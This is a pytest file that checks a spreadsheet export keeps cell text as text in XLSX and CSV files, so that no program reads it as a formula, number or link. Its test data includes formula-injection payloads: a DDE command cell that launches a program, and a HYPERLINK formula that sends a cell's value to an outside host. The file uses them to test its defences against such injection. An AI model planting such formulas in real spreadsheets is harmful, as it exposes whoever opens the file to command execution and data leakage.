"""Tables as files: what was text is read back as the same text, and no program takes it for a formula or a number."""

import csv
import io
import zipfile
from datetime import datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from caseapp.adapters import spreadsheets
from caseapp.core.tables import Column, Table

MADE = datetime(2026, 11, 23, 9, 0)
COVER = (("Made by", "=Cora"), ("What it is for", "@report"))
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ODD = (
    "=1+1",
    "+86 138 0000 2206",
    "-5",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=1+1",
    "   =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "＝１＋１",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elsewhere.example/?"&A1,"open")',
    "https://elsewhere.example/",
    "mailto:somebody@elsewhere.example",
    "222403194503021225",
    "007",
    "1E5",
    "2026-11-23",
    "TRUE",
    "'already quoted",
    'a "quoted", word; and\nanother line',
    "𠮷䶮 👵🏽 ᠮᠣᠩᠭᠣᠯ",
    "_x0041_",
    "<b>&amp;</b>",
    "",
)


def table(cells: tuple[Any, ...]) -> Table:
    """One column of text beside one of numbers."""
    columns = (Column("text", "=Text"), Column("count", "Count", numeric=True))
    return Table("odd", "=Odd: [texts]/*?", columns, [(cell, place) for place, cell in enumerate(cells)], notes=("-note",))


def read_xlsx(data: bytes) -> tuple[list[Any], CalamineWorkbook]:
    """The cells of the text column, as another program reads them."""
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    rows = book.get_sheet_by_index(1).to_python(skip_empty_area=False)
    start = next(place for place, row in enumerate(rows) if row[:2] == ["=Text", "Count"]) + 1
    return rows[start:], book


def read_csv(data: bytes) -> list[list[str]]:
    """The rows below the heading, as a spreadsheet reads them."""
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return lines[lines.index(["'=Text", "Count"]) + 1 :]


def xlsx(cells: tuple[Any, ...]) -> bytes:
    return spreadsheets.to_xlsx("=Title", "Cover", COVER, [table(cells)], MADE)


def test_text_stays_text_in_xlsx() -> None:
    data = xlsx(ODD)
    rows, book = read_xlsx(data)
    assert [row[0] for row in rows] == list(ODD)
    assert [row[1] for row in rows] == list(range(len(ODD)))
    assert all(isinstance(row[0], str) for row in rows)
    cover = book.get_sheet_by_index(0).to_python()
    assert ["Made by", "=Cora"] in cover
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        for name in packed.namelist():
            body = packed.read(name)
            assert b"<f>" not in body and b"<f " not in body, f"a formula in {name}"
            assert b"<hyperlink" not in body, f"a link in {name}"
            assert not name.startswith(("xl/externalLinks", "xl/vba")), name


def test_text_stays_text_in_csv() -> None:
    data = spreadsheets.to_csv(COVER, [table(ODD)])
    assert data.startswith(b"\xef\xbb\xbf"), "so that a double click shows Chinese"
    rows = read_csv(data)
    assert [int(row[1]) for row in rows] == list(range(len(ODD)))
    for (shown, _count), text in zip(rows, ODD, strict=True):
        assert shown in (text, f"'{text}")
        assert not shown.strip().startswith(SIGNS), repr(shown)
    for line in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        assert not any(cell.strip().startswith(SIGNS) for cell in line), line


@settings(max_examples=60, deadline=None, derandomize=True)
@given(st.text(st.characters(codec="utf-8"), max_size=40))
def test_any_text_comes_back(text: str) -> None:
    """Whatever is in a cell: the same characters, or the same behind an apostrophe; control characters may be lost."""
    rows, _book = read_xlsx(xlsx((text,)))
    assert visible(rows[0][0]) == visible(text)
    shown = read_csv(spreadsheets.to_csv((), [table((text,))]))[0][0]
    assert visible(shown) in (visible(text), "'" + visible(text))
    assert not shown.lstrip().startswith(SIGNS)


def visible(text: str) -> str:
    """Without control characters, which no sheet carries, and the marks spreadsheets write them with."""
    kept = "".join(sign for sign in text if sign.isprintable() or sign in "\u3000\u00a0")
    return kept.replace("_x", "").replace(" ", "")


@pytest.mark.parametrize("value", [0, -5, 12345678901, 0.5, -0.25])
def test_numbers_stay_numbers(value: float) -> None:
    rows, _book = read_xlsx(xlsx((value,)))
    assert rows[0][0] == value and not isinstance(rows[0][0], str)
    assert read_csv(spreadsheets.to_csv((), [table((value,))]))[0][0] == str(value)


def test_none_is_empty_and_a_mark_is_no_number() -> None:
    rows, _book = read_xlsx(xlsx((None, "*", True)))
    assert [row[0] for row in rows] == ["", "*", "True"]
    assert [row[0] for row in read_csv(spreadsheets.to_csv((), [table((None, "*", True))]))] == ["", "*", "True"]


def test_a_text_too_long_for_a_cell_is_cut_and_not_dropped() -> None:
    rows, _book = read_xlsx(xlsx(("长" * 40_000, "after it")))
    assert rows[0][0].startswith("长" * 32_000) and rows[0][0].endswith("…")
    assert rows[1][0] == "after it"


def test_sheets_have_names_that_every_program_takes() -> None:
    many = [table(("a",)) for _number in range(12)]
    book = CalamineWorkbook.from_filelike(io.BytesIO(spreadsheets.to_xlsx("t", "Cover [1]", COVER, many, MADE)))
    assert len(set(book.sheet_names)) == 13
    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\'") for name in book.sheet_names)
